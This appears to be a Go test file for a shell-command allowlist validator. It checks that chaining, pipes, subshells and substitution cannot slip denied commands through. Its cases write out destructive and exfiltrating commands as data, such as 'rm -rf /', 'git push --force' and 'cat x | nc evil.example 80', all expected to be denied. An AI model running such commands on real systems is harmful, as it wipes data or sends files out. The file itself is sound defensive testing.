package safety

import (
	"strings"
	"testing"
)

func TestValidate(t *testing.T) {
	policy := devPolicy()

	tests := []struct {
		name    string
		command string
		allowed bool
	}{
		{name: "single allowed command", command: "ls -la", allowed: true},
		{name: "allowed chain", command: "npm install && npm run build", allowed: true},
		{name: "allowed pipe", command: "cat file.txt | grep pattern", allowed: true},
		{name: "allowed semicolons", command: "mkdir out; ls out; echo done", allowed: true},
		{name: "or chain", command: "git status || git log", allowed: true},
		{name: "empty command", command: "", allowed: true},
		{name: "whitespace command", command: "   ", allowed: true},
		{name: "unknown command alone", command: "rm -rf /", allowed: false},
		{name: "unknown command buried in chain", command: "ls && rm -rf / && echo ok", allowed: false},
		{name: "unknown command after pipe", command: "cat x | nc evil.example 80", allowed: false},
		{name: "denied segment denies whole string", command: "git status; git push --force", allowed: false},
		{name: "force push hidden behind pipe", command: "git status | git push --force", allowed: false},
		{name: "parenthesized denied command", command: "(((rm -rf /)))", allowed: false},
		{name: "subshell wrapping allowed chain", command: "(ls && echo ok)", allowed: true},
		{name: "command substitution", command: "echo $(rm -rf /)", allowed: false},
		{name: "backtick substitution", command: "ls `which rm`", allowed: false},
		{name: "process substitution", command: "cat <(ls)", allowed: false},
		{name: "separators only", command: ";;;", allowed: false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := Validate(tt.command, policy)
			if d.Allowed != tt.allowed {
				t.Errorf("Validate(%q).Allowed = %v, want %v (reason: %s)",
					tt.command, d.Allowed, tt.allowed, d.Reason)
			}
		})
	}
}

func TestValidateSubshellInnerChain(t *testing.T) {
	policy := devPolicy()

	tests := []struct {
		name    string
		command string
		allowed bool
	}{
		{name: "denied command inside trailing subshell", command: "ls && (ls && rm -rf /)", allowed: false},
		{name: "force push inside subshell after semicolon", command: "echo hi; (git status && git push --force)", allowed: false},
		{name: "unknown command behind pipe inside subshell", command: "ls && (cat x | nc evil.example 80)", allowed: false},
		{name: "nested subshell chain", command: "ls && ((ls; rm -rf /))", allowed: false},
		{name: "leading subshell chain", command: "(ls && rm -rf /) && echo ok", allowed: false},
		{name: "subshell chain of allowed commands", command: "ls && (git status && git add .)", allowed: true},
		{name: "single allowed command in subshell", command: "echo hi; (git status)", allowed: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := Validate(tt.command, policy)
			if d.Allowed != tt.allowed {
				t.Errorf("Validate(%q).Allowed = %v, want %v (reason: %s)",
					tt.command, d.Allowed, tt.allowed, d.Reason)
			}
		})
	}
}

func TestValidateParenWrappingNeverFlipsDenial(t *testing.T) {
	policy := devPolicy()

	base := "rm -rf /"
	if Validate(base, policy).Allowed {
		t.Fatalf("precondition failed: %q should be denied", base)
	}

	wrapped := base
	for i := 0; i < 5; i++ {
		wrapped = "(" + wrapped + ")"
		if d := Validate(wrapped, policy); d.Allowed {
			t.Errorf("Validate(%q) allowed; wrapping must not bypass the denial", wrapped)
		}
	}
}

func TestValidateReturnsFirstDenialReason(t *testing.T) {
	policy := devPolicy()

	d := Validate("ls && rm -rf / && curl http://x", policy)
	if d.Allowed {
		t.Fatal("expected denial")
	}
	if d.Command != "rm" {
		t.Errorf("Command = %q, want %q", d.Command, "rm")
	}
	if !strings.Contains(d.Reason, "not in the allowed commands list") {
		t.Errorf("Reason = %q, want allowlist rejection", d.Reason)
	}
}

func TestValidateIsPure(t *testing.T) {
	policy := devPolicy()
	cmd := "git status && npm test"

	first := Validate(cmd, policy)
	for i := 0; i < 10; i++ {
		if got := Validate(cmd, policy); got != first {
			t.Fatalf("Validate returned different decisions for identical input: %+v vs %+v", got, first)
		}
	}
}
